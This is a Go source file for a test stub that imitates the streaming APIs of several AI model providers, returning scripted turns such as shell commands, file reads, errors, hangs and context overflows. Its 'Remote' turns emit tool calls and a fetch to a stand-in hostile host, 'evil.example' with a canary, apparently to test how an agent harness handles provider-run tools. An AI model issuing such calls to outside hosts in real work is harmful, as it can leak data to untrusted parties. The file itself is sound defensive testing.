package stub

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"path"
	"slices"
	"strings"
	"sync"
	"time"
)

// Turn is what the stub of a model does when it is asked.
type Turn struct {
	Run    string // has the agent run a command
	Read   string // has the agent read a file of its workspace, by its tool for that if it has one
	Say    string // says something, and is done
	Status int    // answers so
	Hang   bool   // says nothing
	Remote string // a tool of this type, which the provider would run, is called
	Cut    bool   // begins, and breaks off
	Full   bool   // says that the request is longer than the model's context
}

// Model is a stub of the interfaces of providers. It plays its turns one after another, and
// the last one for ever.
type Model struct {
	Key   string // who asks for the list of models without it is refused
	Turns []Turn

	Aside      bool      // requests without tools are no turns: they ask for a title
	Overloaded time.Time // until then nothing is served

	mu    sync.Mutex
	got   []string // bodies
	paths []string // method and address of each
	wrong []string // who asked without the key
}

// ServeHTTP answers a request to a provider. One without a body asks for the list of models.
func (m *Model) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.Method == http.MethodGet {
		m.list(w, r)
		return
	}
	body, _ := io.ReadAll(r.Body)
	t := m.next(r, string(body))
	switch {
	case t.Hang:
		<-r.Context().Done()
	case t.Cut:
		w.Header().Set("Content-Type", "text/event-stream")
		fmt.Fprint(w, "data: {")
		_ = http.NewResponseController(w).Flush()
		panic(http.ErrAbortHandler)
	case t.Full:
		w.WriteHeader(http.StatusBadRequest)
		fmt.Fprint(w, full(r.URL.Path))
	case t.Status != 0:
		kind := "overloaded_error"
		if t.Status < http.StatusInternalServerError {
			kind = "not_found_error"
		}
		w.WriteHeader(t.Status)
		fmt.Fprintf(w, `{"type":"error","error":{"type":%q,"message":"org-7 is told no"}}`, kind)
	case strings.HasSuffix(r.URL.Path, "/messages"):
		sayAnthropic(w, t, request(body))
	case strings.HasSuffix(r.URL.Path, "/chat/completions"):
		sayChat(w, t, request(body))
	case strings.Contains(r.URL.Path, ":"):
		model, _, _ := strings.Cut(path.Base(r.URL.Path), ":")
		sayGemini(w, t, model)
	default:
		sayOpenAI(w, t, request(body))
	}
}

// full is how each interface says that a request is longer than the model's context.
func full(path string) string {
	switch {
	case strings.HasSuffix(path, "/messages"):
		return `{"type":"error","error":{"type":"invalid_request_error","message":"prompt is too long: 210001 tokens > 200000 maximum"}}`
	case strings.Contains(path, ":"):
		return `{"error":{"code":400,"message":"The input token count (1048577) exceeds the maximum number of tokens allowed (1048576).","status":"INVALID_ARGUMENT"}}`
	}
	return `{"error":{"message":"Your input exceeds the context window of this model.","type":"invalid_request_error","code":"context_length_exceeded"}}`
}

// list is the list of models, which costs nothing, and which a wrong key doesn't get.
func (m *Model) list(w http.ResponseWriter, r *http.Request) {
	if !m.known(r) {
		w.WriteHeader(http.StatusUnauthorized)
		return
	}
	fmt.Fprint(w, `{"data":[],"models":[]}`)
}

// known reports whether who asks has the key.
func (m *Model) known(r *http.Request) bool {
	return slices.Contains([]string{r.Header.Get("X-Api-Key"), r.Header.Get("X-Goog-Api-Key"), strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")}, m.Key)
}

// next notes what is asked, and is what is played.
func (m *Model) next(r *http.Request, body string) Turn {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.got, m.paths = append(m.got, body), append(m.paths, r.Method+" "+r.URL.String())
	if !m.known(r) {
		m.wrong = append(m.wrong, r.URL.Path)
	}
	if m.Aside && !strings.Contains(body, `"tools"`) {
		return Turn{Say: "A title"}
	}
	if time.Now().Before(m.Overloaded) {
		return Turn{Status: 529}
	}
	t := m.Turns[0]
	if len(m.Turns) > 1 {
		m.Turns = m.Turns[1:]
	}
	return t
}

// Wrong are the paths that were asked for without the key.
func (m *Model) Wrong() []string {
	m.mu.Lock()
	defer m.mu.Unlock()
	return slices.Clone(m.wrong)
}

// Asked are the bodies of all requests that had one.
func (m *Model) Asked() []string {
	m.mu.Lock()
	defer m.mu.Unlock()
	return slices.Clone(m.got)
}

// Paths are the methods and addresses of all requests that had a body.
func (m *Model) Paths() []string {
	m.mu.Lock()
	defer m.mu.Unlock()
	return slices.Clone(m.paths)
}

// asked is what counts of a request.
type asked struct {
	model string
	tools []string // their names
}

func request(body []byte) (a asked) {
	var r struct {
		Model string
		Tools []struct {
			Name     string
			Function struct{ Name string }
		}
	}
	_ = json.Unmarshal(body, &r)
	for _, t := range r.Tools {
		a.tools = append(a.tools, t.Name, t.Function.Name)
	}
	a.model = r.Model
	return a
}

type js = map[string]any

// events writes a stream of them.
func events(w http.ResponseWriter, list ...js) {
	w.Header().Set("Content-Type", "text/event-stream")
	for _, e := range list {
		data, _ := json.Marshal(e)
		fmt.Fprintf(w, "event: %s\ndata: %s\n\n", e["type"], data)
	}
}

// data writes a stream of events without names, as the other interfaces have them.
func data(w http.ResponseWriter, list ...js) {
	w.Header().Set("Content-Type", "text/event-stream")
	for _, e := range list {
		text, _ := json.Marshal(e)
		fmt.Fprintf(w, "data: %s\n\n", text)
	}
}

func sayChat(w http.ResponseWriter, t Turn, a asked) {
	chunk := func(delta js, reason any) js {
		return js{"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1, "model": a.model, "choices": []js{{"index": 0, "delta": delta, "finish_reason": reason}}}
	}
	call := func(name string, arguments js) js {
		text, _ := json.Marshal(arguments)
		return js{"role": "assistant", "tool_calls": []js{{"index": 0, "id": "call_" + fmt.Sprint(len(text)), "type": "function", "function": js{"name": name, "arguments": string(text)}}}}
	}
	delta, reason := js{"role": "assistant", "content": t.Say}, "stop"
	switch {
	case t.Run != "":
		shell := "bash"
		if slices.Contains(a.tools, "run_shell_command") {
			shell = "run_shell_command"
		}
		delta, reason = call(shell, js{"command": t.Run, "description": "a step"}), "tool_calls"
	case t.Read != "":
		delta, reason = call("read", js{"filePath": t.Read}), "tool_calls"
	case t.Remote != "":
		delta, reason = call(t.Remote, js{"url": "https://evil.example/?canary"}), "tool_calls"
	}
	last := chunk(js{}, reason)
	last["usage"] = js{"prompt_tokens": 10, "completion_tokens": 5, "total_tokens": 15}
	data(w, chunk(delta, nil), last)
	fmt.Fprint(w, "data: [DONE]\n\n")
}

func sayGemini(w http.ResponseWriter, t Turn, model string) {
	part := js{"text": t.Say}
	switch {
	case t.Run != "":
		part = js{"functionCall": js{"name": "bash", "args": js{"command": t.Run, "description": "a step"}}}
	case t.Read != "":
		part = js{"functionCall": js{"name": "read", "args": js{"filePath": t.Read}}}
	case t.Remote != "":
		part = js{"executableCode": js{"language": "PYTHON", "code": "fetch('https://evil.example/?canary')"}}
	}
	data(w, js{
		"candidates":    []js{{"content": js{"role": "model", "parts": []js{part}}, "finishReason": "STOP", "index": 0}},
		"usageMetadata": js{"promptTokenCount": 10, "candidatesTokenCount": 5, "totalTokenCount": 15}, "modelVersion": model,
	})
}

func sayAnthropic(w http.ResponseWriter, t Turn, a asked) {
	block, delta, stop := js{"type": "text", "text": ""}, js{"type": "text_delta", "text": t.Say}, "end_turn"
	switch {
	case t.Run != "":
		input, _ := json.Marshal(js{"command": t.Run, "description": "a step"})
		block, delta, stop = js{"type": "tool_use", "id": "toolu_" + fmt.Sprint(len(t.Run)), "name": "Bash", "input": js{}}, js{"type": "input_json_delta", "partial_json": string(input)}, "tool_use"
	case t.Read != "":
		input, _ := json.Marshal(js{"file_path": t.Read})
		block, delta, stop = js{"type": "tool_use", "id": "toolu_read", "name": "Read", "input": js{}}, js{"type": "input_json_delta", "partial_json": string(input)}, "tool_use"
	case t.Remote != "":
		input, _ := json.Marshal(js{"url": "https://evil.example/?canary"})
		block, delta = js{"type": "server_tool_use", "id": "srvtoolu_1", "name": t.Remote, "input": js{}}, js{"type": "input_json_delta", "partial_json": string(input)}
	}
	events(w,
		js{"type": "message_start", "message": js{"id": "msg_1", "type": "message", "role": "assistant", "model": a.model, "content": []any{}, "usage": js{"input_tokens": 10, "output_tokens": 1}}},
		js{"type": "content_block_start", "index": 0, "content_block": block},
		js{"type": "content_block_delta", "index": 0, "delta": delta},
		js{"type": "content_block_stop", "index": 0},
		js{"type": "message_delta", "delta": js{"stop_reason": stop}, "usage": js{"output_tokens": 7}},
		js{"type": "message_stop"},
	)
}

func sayOpenAI(w http.ResponseWriter, t Turn, a asked) {
	if t.Read != "" { // codex reads by commands
		t.Run = "cat " + t.Read
	}
	item := js{"type": "message", "id": "msg_1", "role": "assistant", "status": "completed", "content": []any{js{"type": "output_text", "text": t.Say, "annotations": []any{}}}}
	switch {
	case t.Run != "":
		name, arguments := "exec_command", js{"cmd": t.Run}
		switch {
		case slices.Contains(a.tools, "shell"):
			name, arguments = "shell", js{"command": []string{"sh", "-c", t.Run}}
		case slices.Contains(a.tools, "shell_command"):
			name, arguments = "shell_command", js{"command": t.Run}
		}
		text, _ := json.Marshal(arguments)
		item = js{"type": "function_call", "id": "fc_1", "call_id": "call_" + fmt.Sprint(len(t.Run)), "name": name, "arguments": string(text), "status": "completed"}
	case t.Remote != "":
		item = js{"type": "web_search_call", "id": "ws_1", "status": "completed", "action": js{"type": "open_page", "url": "https://evil.example/?canary"}}
	}
	answer := func(status string, output ...any) js {
		return js{"id": "resp_1", "object": "response", "status": status, "model": a.model, "output": append([]any{}, output...), "usage": js{
			"input_tokens": 10, "input_tokens_details": js{"cached_tokens": 0}, "output_tokens": 5, "output_tokens_details": js{"reasoning_tokens": 0}, "total_tokens": 15,
		}}
	}
	events(w,
		js{"type": "response.created", "response": answer("in_progress")},
		js{"type": "response.output_item.added", "output_index": 0, "item": item},
		js{"type": "response.output_item.done", "output_index": 0, "item": item},
		js{"type": "response.completed", "response": answer("completed", item)},
	)
}
